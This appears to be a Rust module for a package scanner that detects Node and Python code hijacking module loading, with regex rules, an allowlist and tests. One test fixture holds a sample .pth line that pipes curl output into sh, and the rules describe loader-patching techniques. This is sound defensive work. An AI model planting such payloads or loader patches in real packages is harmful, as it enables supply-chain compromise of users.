@@ -0,0 +1,301 @@
+//! Detection of module resolution hijacking
+//!
+//! Code that patches Node's module loader or Python's import system runs
+//! inside every later `require` or `import`, so it can swap out or tamper
+//! with any other package as it loads. Instrumentation agents, transpilers
+//! and test tooling hook loading legitimately; they are allowlisted by name,
+//! and using a hook library rather than patching the loader directly scores
+//! lower.
+
+use once_cell::sync::Lazy;
+use regex::Regex;
+use std::path::Path;
+
+use super::purpose::package_code;
+use super::{rules, AnalysisOptions, Finding, FindingType, RiskLevel, ScanReason, ScriptLanguage};
+
+/// Packages whose purpose is hooking module loading
+pub const KNOWN_LOADER_HOOKS: &[&str] = &[
+    // Node
+    "@babel/register",
+    "@opentelemetry/instrumentation",
+    "append-transform",
+    "dd-trace",
+    "elastic-apm-node",
+    "esm",
+    "import-in-the-middle",
+    "mock-require",
+    "module-alias",
+    "newrelic",
+    "nyc",
+    "pirates",
+    "proxyquire",
+    "require-in-the-middle",
+    "ts-node",
+    // Python
+    "beartype",
+    "coverage",
+    "ddtrace",
+    "pytest",
+    "setuptools",
+    "six",
+    "typeguard",
+];
+
+/// How a hook gets into module loading
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Strength {
+    /// Overwrites the loader itself
+    Patch,
+    /// Registers through a supported hook API or library
+    Registration,
+}
+
+/// Hooking mechanisms in JavaScript, with how directly they interfere
+static JAVASCRIPT_HOOKS: Lazy<Vec<(&'static str, Strength, Regex)>> = Lazy::new(|| {
+    [
+        (
+            "patches Module._load",
+            Strength::Patch,
+            r"\bModule\._load\s*=[^=]",
+        ),
+        (
+            "patches Module._resolveFilename",
+            Strength::Patch,
+            r"\bModule\._resolveFilename\s*=[^=]",
+        ),
+        (
+            "patches Module.prototype.require or _compile",
+            Strength::Patch,
+            r"\bModule\.prototype\.(?:require|_compile)\s*=[^=]",
+        ),
+        (
+            "replaces a require.extensions handler",
+            Strength::Patch,
+            r#"\b(?:require\.extensions|Module\._extensions)\[\s*['"][^'"]+['"]\s*\]\s*=[^=]"#,
+        ),
+        (
+            "registers a require hook library",
+            Strength::Registration,
+            r#"\brequire\(\s*['"](?:pirates|require-in-the-middle|import-in-the-middle)['"]\s*\)"#,
+        ),
+        (
+            "registers an ES module loader",
+            Strength::Registration,
+            r#"\bmodule\.register\(|\bregister\(\s*['"][^'"]+['"]\s*,\s*(?:import\.meta\.url|pathToFileURL)"#,
+        ),
+        (
+            "injects a preload through NODE_OPTIONS",
+            Strength::Patch,
+            r"\bprocess\.env\.NODE_OPTIONS\s*(?:\+?=)[^=][^\n]*--(?:require|import|loader|experimental-loader)\b",
+        ),
+    ]
+    .into_iter()
+    .map(|(label, strength, pattern)| (label, strength, Regex::new(pattern).unwrap()))
+    .collect()
+});
+
+/// Hooking mechanisms in Python
+static PYTHON_HOOKS: Lazy<Vec<(&'static str, Strength, Regex)>> = Lazy::new(|| {
+    [
+        (
+            "inserts a sys.meta_path finder",
+            Strength::Patch,
+            r"\bsys\.meta_path\s*(?:\.(?:insert|append|extend)\(|\[[^\]]*\]\s*=|=[^=]|\+=)",
+        ),
+        (
+            "inserts a sys.path_hooks entry",
+            Strength::Patch,
+            r"\bsys\.path_hooks\s*(?:\.(?:insert|append|extend)\(|=[^=]|\+=)",
+        ),
+        (
+            "replaces builtins.__import__",
+            Strength::Patch,
+            r#"\b(?:builtins|__builtins__)(?:\.__import__|\[\s*['"]__import__['"]\s*\])\s*=[^=]"#,
+        ),
+    ]
+    .into_iter()
+    .map(|(label, strength, pattern)| (label, strength, Regex::new(pattern).unwrap()))
+    .collect()
+});
+
+/// Lines of a `.pth` file that Python executes at every interpreter start
+static PTH_IMPORT: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?m)^import\s+\S.*$").unwrap());
+
+/// A place where code hooks module loading
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct LoaderHook {
+    /// What the code does, such as "patches Module._load"
+    pub mechanism: String,
+    /// File it is in, relative to the package root
+    pub file: String,
+    /// Matched code
+    pub snippet: String,
+    /// Whether it overwrites the loader rather than using a hook API
+    pub patches_loader: bool,
+}
+
+/// Module resolution hooks found in a package
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ImportHijack {
+    pub hooks: Vec<LoaderHook>,
+}
+
+impl ImportHijack {
+    /// Scan the package's JavaScript or Python source under `root`
+    ///
+    /// Python packages are also checked for `.pth` files with `import` lines.
+    pub fn scan(root: &Path, language: ScriptLanguage) -> Option<Self> {
+        let extensions: &[&str] = match language {
+            ScriptLanguage::JavaScript => &["js", "cjs", "mjs"],
+            ScriptLanguage::Python => &["py", "pth"],
+            _ => return None,
+        };
+        Self::detect(&package_code(root, extensions), language)
+    }
+
+    /// Look for loader hooks in `(file, content)` pairs
+    pub fn detect(files: &[(String, String)], language: ScriptLanguage) -> Option<Self> {
+        let patterns = match language {
+            ScriptLanguage::JavaScript => &*JAVASCRIPT_HOOKS,
+            ScriptLanguage::Python => &*PYTHON_HOOKS,
+            _ => return None,
+        };
+        let mut hooks = Vec::new();
+        for (file, content) in files {
+            if file.ends_with(".pth") {
+                hooks.extend(PTH_IMPORT.find(content).map(|line| LoaderHook {
+                    mechanism: "executes code from a .pth file at interpreter start".to_string(),
+                    file: file.clone(),
+                    snippet: line.as_str().trim().to_string(),
+                    patches_loader: true,
+                }));
+                continue;
+            }
+            for (label, strength, regex) in patterns {
+                if let Some(m) = regex.find(content) {
+                    hooks.push(LoaderHook {
+                        mechanism: label.to_string(),
+                        file: file.clone(),
+                        snippet: m.as_str().trim().trim_end_matches('=').trim().to_string(),
+                        patches_loader: *strength == Strength::Patch,
+                    });
+                }
+            }
+        }
+        (!hooks.is_empty()).then_some(Self { hooks })
+    }
+
+    /// Whether `package` is known or configured to hook module loading
+    pub fn is_allowlisted(package: &str, options: &AnalysisOptions) -> bool {
+        KNOWN_LOADER_HOOKS
+            .iter()
+            .copied()
+            .chain(options.loader_hook_allowlist.iter().map(String::as_str))
+            .any(|allowed| allowed.eq_ignore_ascii_case(package))
+    }
+
+    /// Report as an `ImportHijack` finding, or `None` for allowlisted packages
+    ///
+    /// High when the loader itself is overwritten, medium when a hook API or
+    /// library is used.
+    pub fn to_finding(&self, package: &str, options: &AnalysisOptions) -> Option<Finding> {
+        if Self::is_allowlisted(package, options) {
+            return None;
+        }
+        let severity = if self.hooks.iter().any(|hook| hook.patches_loader) {
+            RiskLevel::High
+        } else {
+            RiskLevel::Medium
+        };
+        let mut mechanisms: Vec<&str> = Vec::new();
+        for hook in &self.hooks {
+            if !mechanisms.contains(&hook.mechanism.as_str()) {
+                mechanisms.push(&hook.mechanism);
+            }
+        }
+
+        let mut finding = Finding::new(
+            FindingType::ImportHijack,
+            severity,
+            format!("{} hooks module loading", package),
+            format!(
+                "{}'s code {}, so it runs whenever other packages load and can tamper with them; legitimate for instrumentation and transpilers, which can be allowlisted",
+                package,
+                mechanisms.join(", ")
+            ),
+        )
+        .with_affected_component(package.to_string())
+        .with_scan_reason(ScanReason::MaliciousPatterns)
+        .with_rule_id(rules::IMPORT_HIJACK);
+        for hook in &self.hooks {
+            finding = finding.with_evidence(format!(
+                "{}: {} ({})",
+                hook.file, hook.mechanism, hook.snippet
+            ));
+        }
+        Some(finding)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn files(file: &str, content: &str) -> Vec<(String, String)> {
+        vec![(file.to_string(), content.to_string())]
+    }
+
+    #[test]
+    fn test_loader_hooks() {
+        let patch = ImportHijack::detect(
+            &files(
+                "lib/index.js",
+                "const Module = require('module');\nconst load = Module._load;\nModule._load = function (request, parent) { return load.apply(this, arguments); };",
+            ),
+            ScriptLanguage::JavaScript,
+        )
+        .unwrap();
+        assert_eq!(patch.hooks[0].mechanism, "patches Module._load");
+        assert_eq!(patch.hooks[0].snippet, "Module._load");
+        let options = AnalysisOptions::default();
+        assert_eq!(
+            patch.to_finding("fast-logger", &options).unwrap().severity,
+            RiskLevel::High
+        );
+        assert!(patch.to_finding("newrelic", &options).is_none());
+
+        let library = ImportHijack::detect(
+            &files("hook.js", "const { addHook } = require('pirates');"),
+            ScriptLanguage::JavaScript,
+        )
+        .unwrap();
+        let custom = AnalysisOptions {
+            loader_hook_allowlist: vec!["acme-apm".to_string()],
+            ..AnalysisOptions::default()
+        };
+        assert_eq!(
+            library.to_finding("svg-loader", &custom).unwrap().severity,
+            RiskLevel::Medium
+        );
+        assert!(library.to_finding("acme-apm", &custom).is_none());
+
+        let pth = ImportHijack::detect(
+            &files("evil.pth", "import os; os.system('curl x | sh')\n"),
+            ScriptLanguage::Python,
+        )
+        .unwrap();
+        assert!(pth.hooks[0].patches_loader);
+
+        // Reading the loader or comparing against it is not hooking
+        for benign in [
+            "if (Module._load === original) {}",
+            "const load = Module._load;",
+        ] {
+            assert!(
+                ImportHijack::detect(&files("a.js", benign), ScriptLanguage::JavaScript).is_none(),
+                "{benign}"
+            );
+        }
+    }
+}